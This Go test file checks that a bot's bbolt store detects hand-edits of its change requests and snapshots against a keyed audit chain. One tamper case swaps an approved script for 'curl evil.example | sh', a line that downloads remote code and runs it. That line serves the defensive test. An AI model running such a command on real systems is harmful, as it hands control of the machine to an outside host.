package store

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	bolt "go.etcd.io/bbolt"

	"github.com/optix-bot/optix-bot/posture"
)

// rawTx opens the closed store file with bbolt directly, as someone editing
// the file would, and lets fn change anything in it.
func rawTx(t *testing.T, path string, fn func(tx *bolt.Tx) error) {
	t.Helper()
	db, err := bolt.Open(path, 0o600, &bolt.Options{Timeout: time.Second})
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if err := db.Update(fn); err != nil {
		t.Fatalf("raw edit: %v", err)
	}
}

// editRequest rewrites one stored request as JSON, the way a hand edit of
// the file would.
func editRequest(tx *bolt.Tx, id string, fn func(cr *ChangeRequest)) error {
	b := tx.Bucket(bucketRequests)
	var cr ChangeRequest
	if err := json.Unmarshal(b.Get([]byte(id)), &cr); err != nil {
		return err
	}
	fn(&cr)
	v, err := json.Marshal(&cr)
	if err != nil {
		return err
	}
	return b.Put([]byte(id), v)
}

// snapKey is the seq key of a stored snapshot.
func snapKey(tx *bolt.Tx, id string) []byte {
	return bytes.Clone(tx.Bucket(bucketSnapshots).Bucket(subSnapIDs).Get([]byte(id)))
}

type recordFixture struct {
	path     string
	opt      Options
	pending  string // a pending request
	approved string // an approved request
	posted   string // a pending request whose buttons were posted
	snap     string // the newest prowler snapshot
	lastSeq  map[string]uint64
}

// newRecordFixture writes a database with requests in several states and
// snapshots, one of them pruned, and closes it.
func newRecordFixture(t *testing.T) recordFixture {
	t.Helper()
	f := recordFixture{
		path:    filepath.Join(t.TempDir(), "optix.db"),
		opt:     Options{AuditKey: []byte("chain-key"), KeepSnapshots: 2, Logger: quietLogger(), Now: testClock()},
		lastSeq: map[string]uint64{},
	}
	s, err := Open(f.path, f.opt)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	ids := make([]string, 3)
	for i := range ids {
		cr := &ChangeRequest{Check: "s3_bucket_public", Account: "111122223333", Script: fmt.Sprintf("echo %d\n", i),
			Requester: "U1", Expires: time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC)}
		if err := s.CreateRequest(ctx, cr, "U1"); err != nil {
			t.Fatal(err)
		}
		ids[i] = cr.ID
	}
	f.pending, f.approved, f.posted = ids[0], ids[1], ids[2]
	if _, err := s.UpdateRequest(ctx, f.approved, func(cr *ChangeRequest) (AuditRecord, error) {
		cr.Approvals = append(cr.Approvals, Decision{By: "U2", At: time.Date(2025, 3, 2, 0, 0, 0, 0, time.UTC), ScriptSHA256: cr.ScriptSHA256})
		cr.State = StateApproved
		return AuditRecord{Actor: "U2", Action: "request.approved"}, nil
	}); err != nil {
		t.Fatal(err)
	}
	if err := s.SetMessage(ctx, f.posted, "C1", "1700000000.000100"); err != nil {
		t.Fatal(err)
	}
	// A refusal names a request only as its subject: it must not count as
	// the entry that wrote it.
	if _, err := s.Append(ctx, AuditRecord{Actor: "U3", Action: "refused", Subject: f.pending,
		Details: map[string]string{"verb": "approve", "reason": "not an approver"}}); err != nil {
		t.Fatal(err)
	}
	for i := range 3 { // KeepSnapshots 2: the first is pruned
		m, err := s.SaveSnapshot(ctx, Snapshot{Source: "prowler", Complete: true, Findings: []posture.Finding{
			{ID: fmt.Sprintf("F-%d", i), Status: posture.StatusOpen, Severity: posture.SeverityHigh}}})
		if err != nil {
			t.Fatal(err)
		}
		f.snap = m.ID
	}
	for _, id := range append(ids, f.snap) {
		es, err := s.AuditFor(ctx, id)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range es {
			if e.Action != "refused" {
				f.lastSeq[id] = e.Seq
			}
		}
	}
	if _, err := s.Verify(ctx); err != nil {
		t.Fatalf("Verify of an untouched database: %v", err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return f
}

func TestVerifyChecksRecordsAgainstTheChain(t *testing.T) {
	tests := []struct {
		name   string
		edit   func(f recordFixture, tx *bolt.Tx) error
		record string
		id     func(f recordFixture) string
		seq    func(f recordFixture) uint64
		reason string // with %s for the id and %d for the seq
	}{
		{
			name: "pending request made approved with no approvals",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				return editRequest(tx, f.pending, func(cr *ChangeRequest) { cr.State = StateApproved })
			},
			record: RecordRequest, id: func(f recordFixture) string { return f.pending },
			reason: "change request %s: its stored record does not match audit entry %d",
		},
		{
			name: "fake approval added",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				return editRequest(tx, f.posted, func(cr *ChangeRequest) {
					cr.Approvals = append(cr.Approvals, Decision{By: "U9", At: cr.Created, ScriptSHA256: cr.ScriptSHA256})
				})
			},
			record: RecordRequest, id: func(f recordFixture) string { return f.posted },
			reason: "change request %s: its stored record does not match audit entry %d",
		},
		{
			name: "approved request's script swapped, hash recomputed",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				return editRequest(tx, f.approved, func(cr *ChangeRequest) {
					cr.Script = "curl evil.example | sh\n"
					cr.ScriptSHA256 = ScriptHash(cr.Script)
					cr.Approvals[0].ScriptSHA256 = cr.ScriptSHA256
				})
			},
			record: RecordRequest, id: func(f recordFixture) string { return f.approved },
			reason: "change request %s: its stored record does not match audit entry %d",
		},
		{
			name: "whitespace-only re-encoding of a request",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				b := tx.Bucket(bucketRequests)
				var out bytes.Buffer
				if err := json.Indent(&out, b.Get([]byte(f.pending)), "", " "); err != nil {
					return err
				}
				return b.Put([]byte(f.pending), out.Bytes())
			},
			record: RecordRequest, id: func(f recordFixture) string { return f.pending },
			reason: "change request %s: its stored record does not match audit entry %d",
		},
		{
			name: "request deleted",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				return tx.Bucket(bucketRequests).Delete([]byte(f.approved))
			},
			record: RecordRequest, id: func(f recordFixture) string { return f.approved },
			reason: "change request %s: audit entry %d records it but it is not stored",
		},
		{
			name: "request planted under a new id",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				b := tx.Bucket(bucketRequests)
				return b.Put([]byte("ffffffff-0000-4000-8000-000000000000"), bytes.Clone(b.Get([]byte(f.approved))))
			},
			record: RecordRequest, id: func(recordFixture) string { return "ffffffff-0000-4000-8000-000000000000" },
			seq:    func(recordFixture) uint64 { return 0 },
			reason: "change request %s: no audit entry records it",
		},
		{
			name: "snapshot findings changed",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				return tx.Bucket(bucketSnapshots).Bucket(subSnapFindings).Put(snapKey(tx, f.snap), []byte("[]"))
			},
			record: RecordSnapshot, id: func(f recordFixture) string { return f.snap },
			reason: "snapshot %s: its stored findings do not match audit entry %d",
		},
		{
			name: "snapshot counts changed",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				mb := tx.Bucket(bucketSnapshots).Bucket(subSnapMeta)
				k := snapKey(tx, f.snap)
				var m SnapshotMeta
				if err := json.Unmarshal(mb.Get(k), &m); err != nil {
					return err
				}
				m.Counts.Total = 0
				v, err := json.Marshal(m)
				if err != nil {
					return err
				}
				return mb.Put(k, v)
			},
			record: RecordSnapshot, id: func(f recordFixture) string { return f.snap },
			reason: "snapshot %s: its stored metadata does not match audit entry %d",
		},
		{
			name: "snapshot deleted",
			edit: func(f recordFixture, tx *bolt.Tx) error {
				b := tx.Bucket(bucketSnapshots)
				k := snapKey(tx, f.snap)
				if err := b.Bucket(subSnapMeta).Delete(k); err != nil {
					return err
				}
				if err := b.Bucket(subSnapFindings).Delete(k); err != nil {
					return err
				}
				return b.Bucket(subSnapIDs).Delete([]byte(f.snap))
			},
			record: RecordSnapshot, id: func(f recordFixture) string { return f.snap },
			reason: "snapshot %s: audit entry %d records it but it is not stored",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newRecordFixture(t)
			rawTx(t, f.path, func(tx *bolt.Tx) error { return tt.edit(f, tx) })
			s := openTest(t, f.path, f.opt)
			res, err := s.Verify(context.Background())
			var ce *ChainError
			if !errors.As(err, &ce) || !errors.Is(err, ErrChainBroken) {
				t.Fatalf("Verify = %+v, %v; want a *ChainError", res, err)
			}
			id := tt.id(f)
			seq := f.lastSeq[id]
			if tt.seq != nil {
				seq = tt.seq(f)
			}
			want := tt.reason
			if strings.Contains(want, "%d") {
				want = fmt.Sprintf(want, id, seq)
			} else {
				want = fmt.Sprintf(want, id)
			}
			if ce.Reason != want || ce.Error() != want {
				t.Errorf("reason = %q, want %q", ce.Reason, want)
			}
			if ce.Record != tt.record || ce.ID != id || ce.Seq != seq {
				t.Errorf("ChainError = {Record %q, ID %q, Seq %d}, want {%q, %q, %d}", ce.Record, ce.ID, ce.Seq, tt.record, id, seq)
			}
		})
	}
}

// rewriteChain rewrites every entry with fn and re-links the chain with the
// key, as the store would have written it: used to make a database look as
// one written before the record digests existed.
func rewriteChain(t *testing.T, path string, key []byte, fn func(e *AuditEntry)) {
	t.Helper()
	signer := &Store{key: key}
	rawTx(t, path, func(tx *bolt.Tx) error {
		a := tx.Bucket(bucketAudit)
		var es []AuditEntry
		if err := a.ForEach(func(_, v []byte) error {
			e, err := decodeEntry(v)
			es = append(es, e)
			return err
		}); err != nil {
			return err
		}
		prev := GenesisHash
		for i := range es {
			fn(&es[i])
			es[i].PrevHash = prev
			canon := canonical(&es[i])
			es[i].Hash = signer.hash(prev, canon)
			if err := a.Put(seqKey(es[i].Seq), encodeEntry(canon, es[i].Hash)); err != nil {
				return err
			}
			prev = es[i].Hash
		}
		last := es[len(es)-1]
		return tx.Bucket(bucketMeta).Put(keyAuditHead, append(seqKey(last.Seq), last.Hash...))
	})
}

// stripDigests makes entries look as the store wrote them before
// request_sha256, meta_sha256 and pruned_ids: request.created had no state.
func stripDigests(e *AuditEntry) {
	delete(e.Details, detailRecord)
	delete(e.Details, detailSnapMeta)
	delete(e.Details, detailPrunedIDs)
	if e.Action == "request.created" {
		delete(e.Details, detailState)
	}
}

func TestVerifyOlderDatabases(t *testing.T) {
	t.Run("untouched verifies", func(t *testing.T) {
		f := newRecordFixture(t)
		rewriteChain(t, f.path, f.opt.AuditKey, stripDigests)
		s := openTest(t, f.path, f.opt)
		if _, err := s.Verify(context.Background()); err != nil {
			t.Fatalf("Verify: %v", err)
		}
	})
	t.Run("state edit still caught", func(t *testing.T) {
		f := newRecordFixture(t)
		rewriteChain(t, f.path, f.opt.AuditKey, stripDigests)
		rawTx(t, f.path, func(tx *bolt.Tx) error {
			return editRequest(tx, f.pending, func(cr *ChangeRequest) { cr.State = StateApproved })
		})
		s := openTest(t, f.path, f.opt)
		_, err := s.Verify(context.Background())
		want := fmt.Sprintf("change request %s: its stored state is approved but audit entry %d recorded pending", f.pending, f.lastSeq[f.pending])
		var ce *ChainError
		if !errors.As(err, &ce) || ce.Reason != want || ce.ID != f.pending {
			t.Fatalf("Verify err = %v, want %q", err, want)
		}
	})
	t.Run("an edit keeping the state is not provable", func(t *testing.T) {
		// The documented limit: without request_sha256 the entry holds no
		// digest to compare an added approval with.
		f := newRecordFixture(t)
		rewriteChain(t, f.path, f.opt.AuditKey, stripDigests)
		rawTx(t, f.path, func(tx *bolt.Tx) error {
			return editRequest(tx, f.posted, func(cr *ChangeRequest) { cr.Approvals = append(cr.Approvals, Decision{By: "U9"}) })
		})
		s := openTest(t, f.path, f.opt)
		if _, err := s.Verify(context.Background()); err != nil {
			t.Fatalf("Verify: %v", err)
		}
	})
	t.Run("snapshot findings still caught", func(t *testing.T) {
		f := newRecordFixture(t)
		rewriteChain(t, f.path, f.opt.AuditKey, stripDigests)
		rawTx(t, f.path, func(tx *bolt.Tx) error {
			return tx.Bucket(bucketSnapshots).Bucket(subSnapFindings).Put(snapKey(tx, f.snap), []byte("[]"))
		})
		s := openTest(t, f.path, f.opt)
		_, err := s.Verify(context.Background())
		var ce *ChainError
		if !errors.As(err, &ce) || ce.Record != RecordSnapshot || ce.ID != f.snap {
			t.Fatalf("Verify err = %v, want snapshot %s named", err, f.snap)
		}
	})
	t.Run("a newer write makes the request provable again", func(t *testing.T) {
		f := newRecordFixture(t)
		rewriteChain(t, f.path, f.opt.AuditKey, stripDigests)
		s, err := Open(f.path, f.opt)
		if err != nil {
			t.Fatal(err)
		}
		if err := s.SetMessage(context.Background(), f.posted, "C2", "1700000000.000200"); err != nil {
			t.Fatal(err)
		}
		_ = s.Close()
		rawTx(t, f.path, func(tx *bolt.Tx) error {
			return editRequest(tx, f.posted, func(cr *ChangeRequest) { cr.Approvals = append(cr.Approvals, Decision{By: "U9"}) })
		})
		s = openTest(t, f.path, f.opt)
		_, err = s.Verify(context.Background())
		var ce *ChainError
		if !errors.As(err, &ce) || ce.ID != f.posted || !strings.Contains(ce.Reason, "its stored record does not match") {
			t.Fatalf("Verify err = %v, want request %s named", err, f.posted)
		}
	})
}

func TestStoreOwnedDetailsAreRefused(t *testing.T) {
	s := newTestStore(t)
	ctx := context.Background()
	for _, k := range []string{detailRecord, detailSnapMeta} {
		if _, err := s.Append(ctx, AuditRecord{Action: "command", Details: map[string]string{k: "00"}}); err == nil {
			t.Errorf("Append with %s: no error", k)
		}
	}
	cr := &ChangeRequest{Script: "echo\n", Requester: "U1"}
	if err := s.CreateRequest(ctx, cr, "U1"); err != nil {
		t.Fatal(err)
	}
	_, err := s.UpdateRequest(ctx, cr.ID, func(cr *ChangeRequest) (AuditRecord, error) {
		cr.State = StateRejected
		return AuditRecord{Actor: "U2", Action: "request.rejected", Details: map[string]string{"state": "approved"}}, nil
	})
	if err == nil || !strings.Contains(err.Error(), "disagrees with the request written") {
		t.Fatalf("UpdateRequest with a contradicting state detail: %v", err)
	}
	got, err := s.Request(ctx, cr.ID)
	if err != nil || got.State != StatePending {
		t.Fatalf("after the refusal: %+v, %v", got, err)
	}
	if _, err := s.Verify(ctx); err != nil {
		t.Fatalf("Verify: %v", err)
	}
}

// TestConcurrentWritersVerify mixes every kind of write from many
// goroutines; run with -race.
func TestConcurrentWritersVerify(t *testing.T) {
	s := openTest(t, filepath.Join(t.TempDir(), "optix.db"), Options{KeepSnapshots: 3})
	ctx := context.Background()
	const workers = 50
	var wg sync.WaitGroup
	errs := make(chan error, workers*4)
	for w := range workers {
		wg.Go(func() {
			cr := &ChangeRequest{Script: fmt.Sprintf("echo %d\n", w), Requester: "U1",
				Expires: time.Date(2025, 3, 1, 12, 0, 30, 0, time.UTC)}
			if err := s.CreateRequest(ctx, cr, "U1"); err != nil {
				errs <- err
				return
			}
			if _, err := s.UpdateRequest(ctx, cr.ID, func(c *ChangeRequest) (AuditRecord, error) {
				c.Approvals = append(c.Approvals, Decision{By: "U2", ScriptSHA256: c.ScriptSHA256})
				c.State = StateApproved
				return AuditRecord{Actor: "U2", Action: "request.approved"}, nil
			}); err != nil {
				errs <- err
			}
			if _, err := s.SaveSnapshot(ctx, Snapshot{Source: fmt.Sprintf("src%d", w%4), Complete: true}); err != nil {
				errs <- err
			}
			if _, err := s.Append(ctx, AuditRecord{Actor: "U3", Action: "command", Subject: cr.ID}); err != nil {
				errs <- err
			}
			if _, err := s.ExpireDue(ctx, time.Date(2025, 3, 2, 0, 0, 0, 0, time.UTC)); err != nil {
				errs <- err
			}
		})
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	if _, err := s.Verify(ctx); err != nil {
		t.Fatalf("Verify: %v", err)
	}
}
